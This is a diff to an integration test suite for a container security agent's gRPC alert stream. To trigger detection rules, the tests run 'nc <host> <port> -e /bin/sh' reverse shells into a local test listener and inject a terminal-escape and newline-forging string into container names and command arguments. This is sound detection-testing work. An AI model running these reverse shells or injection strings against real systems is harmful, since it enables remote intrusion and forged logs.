@@ -17,6 +17,10 @@ const TOOLS = 'vigil-test/tools:latest';
 const unavailable = integrationUnavailable();
 const MAIN = join(import.meta.dirname, '..', '..', 'dist', 'agent', 'main.js');
 const require = createRequire(import.meta.url);
+// Other test runs share this Docker engine: namespaces of our own keep their pods out of our assertions.
+const SHOP = `i9shop${process.pid}`;
+const OTHER = `i9other${process.pid}`;
+const HOSTILE_NS = `i9hostile${process.pid}`;
 
 /** A subscription that records what it got, in order. */
 interface Recorder {
@@ -59,7 +63,13 @@ async function until(what: string, cond: () => boolean, timeoutMs = 20_000): Pro
 
 /** Reads the agent's vigil_* gauge or counter value (sum over labels matching `labels`). */
 async function metric(agent: AgentHandle, name: string, labels = ''): Promise<number> {
-  const text = await agent.metrics();
+  let text: string;
+  try {
+    text = await agent.metrics();
+  } catch {
+    // A keep-alive connection the server closed just as it was reused: ask again.
+    text = await agent.metrics();
+  }
   let sum = 0;
   for (const line of text.split('\n')) {
     if (line.startsWith(`${name}{${labels}`) || (labels === '' && line.startsWith(`${name} `))) sum += Number(line.split(' ').pop());
@@ -79,8 +89,9 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
 
   beforeAll(async () => {
     gateway = bridgeGateway();
-    // A small per-subscriber queue so a paused subscriber overflows within a test.
-    agent = await startAgent(['--scan-interval-ms', '1000', '--grpc-subscriber-queue', '256', '--grpc-ring-size', '100000']);
+    // A per-subscriber queue small enough for a paused subscriber to overflow within a test,
+    // large enough for a reading one to absorb a scan's burst.
+    agent = await startAgent(['--scan-interval-ms', '1000', '--grpc-subscriber-queue', '2048', '--grpc-ring-size', '100000']);
   });
   afterEach(async () => {
     removeAllPods();
@@ -103,33 +114,37 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
   }
 
   it('filters server-side by kind, priority, rule, namespace, pod regex and a rule-language condition', async () => {
+    const ports = await Promise.all([listen(gateway), listen(gateway), listen(gateway)]);
+    listeners.push(...ports);
     const alertsOnly = record(agent.grpcAddr, {
-      kinds: ['KIND_ALERT'], minPriority: 'PRIORITY_CRITICAL', rules: ['Reverse Shell'], namespaces: ['shop'], podNameRegex: '^rs-[a-z]+$',
+      kinds: ['KIND_ALERT'], minPriority: 'PRIORITY_CRITICAL', rules: ['Reverse Shell'], namespaces: [SHOP], podNameRegex: '^rs-[a-z]+$',
     });
-    const ncExecs = record(agent.grpcAddr, { kinds: ['KIND_EXEC'], condition: 'proc.name = nc and k8s.ns.name in (shop, other)' });
-    // Both subscriptions are registered once the agent counts them.
-    await untilAsync('two subscribers', async () => (await metric(agent, 'vigil_grpc_subscribers')) >= 2);
+    const mine = ports.map((l) => `proc.args contains " ${l.port} "`).join(' or ');
+    const ncExecs = record(agent.grpcAddr, { kinds: ['KIND_EXEC'], condition: `proc.name = nc and (${mine})` });
+    await Promise.all([alertsOnly.handle.subscribed, ncExecs.handle.subscribed]);
 
-    const inShop = await reverseShell('shop', 'rs-alpha');
-    const inOther = await reverseShell('other', 'rs-beta');
-    const wrongName = await reverseShell('shop', 'db-gamma');
-    for (const p of [inShop, inOther, wrongName]) await agent.waitForAlert((a) => a.rule === 'Reverse Shell' && a.output_fields['k8s.pod.name'] === p.pod, 10_000);
+    const spawnShell = (l: Listener, namespace: string, pod: string): Promise<Pod> => {
+      const p = runPod({ namespace, pod, container: 'app', image: TOOLS, command: ['nc', gateway, String(l.port), '-e', '/bin/sh'] });
+      return l.waitForConnection(15_000).then(() => p);
+    };
+    const pods = [await spawnShell(ports[0]!, SHOP, 'rs-alpha'), await spawnShell(ports[1]!, OTHER, 'rs-beta'), await spawnShell(ports[2]!, SHOP, 'db-gamma')];
+    for (const p of pods) await agent.waitForAlert((a) => a.rule === 'Reverse Shell' && a.output_fields['k8s.pod.name'] === p.pod, 10_000);
     await until('the shop alert on the stream', () => alertsOnly.alerts().some((a) => field(a, 'k8s.pod.name') === 'rs-alpha'));
-    await until('nc execs in both namespaces', () => new Set(ncExecs.got.map((e) => (e.exec as { pod?: { name?: string } }).pod?.name)).size >= 3).catch((err: Error) => {
+    const portsSeen = (): Set<string> => new Set(ncExecs.got.map((e) => String((e.exec as { process: { args: string[] } }).process.args[1])));
+    await until('the three nc execs', () => portsSeen().size === 3).catch((err: Error) => {
       throw new Error(`${err.message}; got ${JSON.stringify(ncExecs.got.map((e) => e.exec))}`);
     });
     // Let anything that should not have passed arrive, if it were going to.
     await new Promise((r) => setTimeout(r, 1_000));
 
     // Exactly the stdout alerts that match the filters, no more.
-    const expected = agent.alerts.filter((a) => a.rule === 'Reverse Shell' && a.output_fields['k8s.ns.name'] === 'shop' && /^rs-[a-z]+$/.test(String(a.output_fields['k8s.pod.name'])));
+    const expected = agent.alerts.filter((a) => a.rule === 'Reverse Shell' && a.output_fields['k8s.ns.name'] === SHOP && /^rs-[a-z]+$/.test(String(a.output_fields['k8s.pod.name'])));
+    expect(expected.length).toBeGreaterThan(0);
     expect(alertsOnly.alerts().map((a) => a.output)).toEqual(expected.map((a) => a.output));
     expect(alertsOnly.got.every((e) => e.payload === 'alert')).toBe(true);
     expect(alertsOnly.alerts()[0]).toMatchObject({ priority: 'PRIORITY_CRITICAL', priorityText: 'Critical', rule: 'Reverse Shell', source: 'syscall' });
-    expect(ncExecs.got.every((e) => e.payload === 'exec')).toBe(true);
-    const execs = ncExecs.got.map((e) => e.exec as { process: { name: string }; pod: { namespace: string; name: string } });
-    expect(execs.every((x) => x.process.name === 'nc' && ['shop', 'other'].includes(x.pod.namespace))).toBe(true);
-    expect(new Set(execs.map((x) => x.pod.name))).toEqual(new Set(['rs-alpha', 'rs-beta', 'db-gamma']));
+    expect(ncExecs.got.every((e) => e.payload === 'exec' && (e.exec as { process: { name: string } }).process.name === 'nc')).toBe(true);
+    expect(portsSeen()).toEqual(new Set(ports.map((l) => String(l.port))));
     alertsOnly.handle.cancel();
     ncExecs.handle.cancel();
     expect(await alertsOnly.handle.done).toBeNull();
@@ -138,8 +153,8 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
 
   it('a subscriber that reconnects with since_sequence misses nothing the ring holds', async () => {
     const first = record(agent.grpcAddr, {});
-    await untilAsync('subscribed', async () => (await metric(agent, 'vigil_grpc_subscribers')) >= 1);
-    await reverseShell('shop', 'rs-before');
+    await first.handle.subscribed;
+    await reverseShell(SHOP, 'rs-before');
     await until('an envelope', () => first.got.length > 0);
     first.handle.cancel();
     await first.handle.done;
@@ -147,7 +162,7 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
     const bootId = last.bootId!;
 
     // While disconnected: a reverse shell alerts.
-    const during = await reverseShell('shop', 'rs-during');
+    const during = await reverseShell(SHOP, 'rs-during');
     await agent.waitForAlert((a) => a.rule === 'Reverse Shell' && a.output_fields['k8s.pod.name'] === during.pod, 10_000);
 
     const second = record(agent.grpcAddr, { sinceSequence: Number(last.sequence), bootId });
@@ -164,18 +179,18 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
   it('a paused subscriber gets loss notices whose ranges are exactly its gaps, and does not hold back a fast one', async () => {
     const slow = record(agent.grpcAddr, {});
     const fast = record(agent.grpcAddr, {});
-    await untilAsync('subscribed', async () => (await metric(agent, 'vigil_grpc_subscribers')) >= 2);
+    await Promise.all([slow.handle.subscribed, fast.handle.subscribed]);
     // Stop reading: HTTP/2 flow control fills, then the agent's queue for it.
     const call = slow.handle.call;
     call.pause();
     const droppedBefore = await metric(agent, 'vigil_grpc_subscriber_dropped_total', 'reason="queue_full"');
     // An exec storm in a pod: thousands of exec and exit envelopes.
-    runPod({ namespace: 'load', pod: 'storm', container: 'app', image: TOOLS, command: ['sh', '-c', 'i=0; while [ $i -lt 4000 ]; do /bin/true; i=$((i+1)); done; sleep 60'] });
+    runPod({ namespace: SHOP, pod: 'storm', container: 'app', image: TOOLS, command: ['sh', '-c', 'i=0; while [ $i -lt 6000 ]; do /bin/true; i=$((i+1)); done; sleep 60'] });
     await untilAsync('drops for the paused subscriber', async () => (await metric(agent, 'vigil_grpc_subscriber_dropped_total', 'reason="queue_full"')) > droppedBefore, 60_000);
     // The fast one keeps up meanwhile: it gets the newest envelope while the slow one is still paused.
     const newest = (): number => Math.max(0, ...fast.sequences());
     const target = newest() + 1;
-    await reverseShell('shop', 'rs-while-slow');
+    await reverseShell(SHOP, 'rs-while-slow');
     await until('the fast subscriber to move on', () => newest() > target);
     await agent.waitForAlert((a) => a.output_fields['k8s.pod.name'] === 'rs-while-slow', 10_000);
     await until('the fast subscriber to get the alert', () => fast.alerts().some((a) => field(a, 'k8s.pod.name') === 'rs-while-slow'));
@@ -264,31 +279,36 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
   });
 
   it('a hostile command line and container name arrive intact through gRPC and cannot forge lines in `vigil tail`', async () => {
+    const RULE = 'Network Tool Launched in Container';
     const hostile = 'evil\nforged line\r\x1b[31mred\x1b]0;t\x07 |=\\"\' \u202emoc.live\u2028end';
     const l = await listen(gateway);
     listeners.push(l);
-    const sub = record(agent.grpcAddr, { kinds: ['KIND_ALERT'], rules: ['Netcat Remote Code Execution in Container'], namespaces: ['hostile'] });
-    await untilAsync('subscribed', async () => (await metric(agent, 'vigil_grpc_subscribers')) >= 1);
+    const sub = record(agent.grpcAddr, { kinds: ['KIND_ALERT'], rules: [RULE], namespaces: [HOSTILE_NS] });
+    const execs = record(agent.grpcAddr, { kinds: ['KIND_EXEC'], namespaces: [HOSTILE_NS] });
+    await Promise.all([sub.handle.subscribed, execs.handle.subscribed]);
     // `script` gives tail a terminal, so it prints its aligned colour lines.
-    const tty = spawn('script', ['-qec', `${process.execPath} ${MAIN} tail --addr ${agent.grpcAddr} --namespace hostile --kind alert`, '/dev/null'], { stdio: ['pipe', 'pipe', 'pipe'] });
-    const json = spawn(process.execPath, [MAIN, 'tail', '--addr', agent.grpcAddr, '--namespace', 'hostile', '--kind', 'alert'], { stdio: ['ignore', 'pipe', 'pipe'] });
+    const tty = spawn('script', ['-qec', `${process.execPath} ${MAIN} tail --addr ${agent.grpcAddr} --namespace ${HOSTILE_NS} --kind alert`, '/dev/null'], { stdio: ['pipe', 'pipe', 'pipe'] });
+    const json = spawn(process.execPath, [MAIN, 'tail', '--addr', agent.grpcAddr, '--namespace', HOSTILE_NS, '--kind', 'alert'], { stdio: ['ignore', 'pipe', 'pipe'] });
     let ttyOut = '';
     let jsonOut = '';
     tty.stdout!.setEncoding('utf8').on('data', (c: string) => (ttyOut += c));
     json.stdout!.setEncoding('utf8').on('data', (c: string) => (jsonOut += c));
-    await untilAsync('both tails subscribed', async () => (await metric(agent, 'vigil_grpc_subscribers')) >= 3);
+    try {
+    await untilAsync('both tails subscribed', async () => (await metric(agent, 'vigil_grpc_subscribers')) >= 4);
     runPod({
-      namespace: 'hostile', pod: 'nc-pod', container: 'app', image: TOOLS,
+      namespace: HOSTILE_NS, pod: 'nc-pod', container: 'app', image: TOOLS,
       labels: { 'io.kubernetes.container.name': hostile },
       command: ['nc', gateway, String(l.port), '-e', `/bin/sh ${hostile}`],
     });
-    await until('the alert on the stream', () => sub.alerts().length > 0, 20_000).catch((err: Error) => {
-      throw new Error(`${err.message}; stdout alerts: ${JSON.stringify(agent.alerts.filter((a) => a.output_fields['k8s.ns.name'] === 'hostile'))}`);
+    await until('the alert on the stream', () => sub.alerts().length > 0, 40_000).catch((err: Error) => {
+      throw new Error(`${err.message}; stdout alerts: ${JSON.stringify(agent.alerts.filter((a) => a.output_fields['k8s.ns.name'] === HOSTILE_NS))}`);
     });
     const a = sub.alerts()[0]!;
-    expect(field(a, 'proc.cmdline')).toContain(hostile);
     expect(field(a, 'k8s.container.name')).toBe(hostile);
-    await until('both tails printed it', () => ttyOut.includes('Netcat') && jsonOut.includes('Netcat'), 20_000);
+    expect(String(a.output)).toContain(hostile);
+    // The exec's argv, as the process was started, through the typed payload.
+    await until('the exec with the hostile argument', () => execs.got.some((e) => ((e.exec as { process: { args: string[] } }).process.args ?? []).includes(`/bin/sh ${hostile}`)));
+    await until('both tails printed it', () => ttyOut.includes('Network Tool') && jsonOut.includes('Network Tool'), 20_000);
     sub.handle.cancel();
     await sub.handle.done;
 
@@ -298,7 +318,7 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
     const fromTail = JSON.parse(jsonLines[0]!) as WireEnvelope;
     expect(field(fromTail.alert as Record<string, unknown>, 'k8s.container.name')).toBe(hostile);
     // TTY: one line per envelope; no control character but our own colours and the line end.
-    const ttyLines = ttyOut.split('\r\n').filter((x) => x.includes('Netcat'));
+    const ttyLines = ttyOut.split('\r\n').filter((x) => x.includes('Network Tool'));
     expect(ttyLines).toHaveLength(1);
     expect(ttyOut.replace(/\r\n/g, '').includes('\n')).toBe(false);
     const stripped = ttyLines[0]!.replace(/\x1b\[(?:0|2|1;3[15]|3[1-6]|90)m/g, '');
@@ -307,10 +327,14 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
     expect(stripped).toContain('evil\\x0aforged line\\x0d\\x1b[31mred');
 
     // Ctrl-C: both exit 0.
+    const codes = Promise.all([new Promise((r) => json.once('exit', r)), new Promise((r) => tty.once('exit', r))]);
     json.kill('SIGINT');
     tty.stdin!.write('\x03');
-    const codes = await Promise.all([new Promise((r) => json.once('exit', r)), new Promise((r) => tty.once('exit', r))]);
-    expect(codes).toEqual([0, 0]);
+    expect(await codes).toEqual([0, 0]);
+    } finally {
+      json.kill('SIGKILL');
+      tty.kill('SIGKILL');
+    }
   });
 });
 
